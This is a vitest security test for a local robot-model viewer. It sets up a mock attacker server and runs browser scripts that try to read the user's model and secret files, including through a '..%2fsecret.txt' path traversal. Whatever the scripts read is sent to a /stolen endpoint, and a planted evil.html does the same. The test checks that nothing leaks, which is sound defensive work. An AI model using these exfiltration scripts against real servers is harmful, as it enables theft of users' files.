import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { put, temporaryFolder } from '../testing/run.ts';
import { type Browser, launchBrowser } from './browser.ts';
import { modelOnDisk } from './model-files.ts';
import { type Served, serve } from './serve.ts';

// A page of somebody else's, on another port of this machine, that knows the port and the paths of a running `qpos view`; the model was
// made by the attacker as well, and names a page with a script and a file of the user's.

const SECRET = 'the secret of the user';
const folder = temporaryFolder();
const model = put(folder, {
  'robot/robot.xml': `<mujoco><asset>
    <mesh name="a" file="evil.html"/><mesh name="b" file="note.txt"/><mesh name="c" file="../secret.txt"/>
  </asset></mujoco>`,
  'robot/note.txt': SECRET,
  'secret.txt': SECRET,
  'studio/index.html': '<title>studio</title>',
});

let browser: Browser;
let victim: Served;
let attacker: http.Server;
let home: string;
const stolen: string[] = []; // what arrives at the attacker

const evilPage = (): string => `<!doctype html><script>
  (async () => {
    for (const name of ['note.txt', 'robot/note.txt', '..%2fsecret.txt', 'secret.txt'])
      await fetch('/model/' + name).then((r) => r.text()).then((text) => fetch('${home}stolen?' + encodeURIComponent(text), { mode: 'no-cors' })).catch(() => {});
  })();
</script>`;

const attackPage = (): string => `<!doctype html><body><script>
  const target = '${victim.address}model/';
  const tell = (text) => fetch('/stolen?' + encodeURIComponent(text));
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const until = (promise) => Promise.race([promise, wait(1000)]);
  globalThis.attack = (async () => {
    for (const name of ['robot.xml', 'note.txt', 'robot/note.txt', 'secret.txt', '..%2fsecret.txt'])
      for (const mode of ['cors', 'no-cors'])
        await until(fetch(target + name, { mode }).then((r) => r.text()).then((text) => text && tell(text)).catch(() => {}));
    for (const path of ['evil.html', 'robot/evil.html']) {
      for (const tag of ['iframe', 'embed', 'object', 'script', 'img', 'link']) {
        const element = document.createElement(tag);
        if (tag === 'link') element.rel = 'stylesheet';
        element[tag === 'object' ? 'data' : tag === 'link' ? 'href' : 'src'] = target + path;
        document.body.append(element);
      }
      window.open(target + path);
    }
    await wait(1500);
    const frame = document.createElement('iframe');
    frame.src = '${victim.address}';
    document.body.append(frame);
    await wait(500);
    return 'played';
  })();
</script>`;

beforeAll(async () => {
  attacker = http.createServer((request, response) => {
    if (request.url?.startsWith('/stolen')) stolen.push(decodeURIComponent(request.url));
    response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
    response.end(request.url === '/' ? attackPage() : '');
  });
  await new Promise<void>((done) => attacker.listen(0, '127.0.0.1', done));
  home = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
  put(folder, { 'robot/evil.html': evilPage() });
  victim = await serve({ studio: path.join(folder, 'studio'), model: modelOnDisk(model), port: 0 });
  browser = await launchBrowser();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await victim?.close();
  attacker?.closeAllConnections();
  attacker?.close();
  fs.rmSync(folder, { recursive: true });
});

test('a page on another port gets nothing of the model or of the user', async () => {
  const page = await browser.newPage();
  await page.goto(home);
  expect(await page.evaluate<string>('attack')).toBe('played');
  expect(stolen).toEqual([]);
}, 60_000);
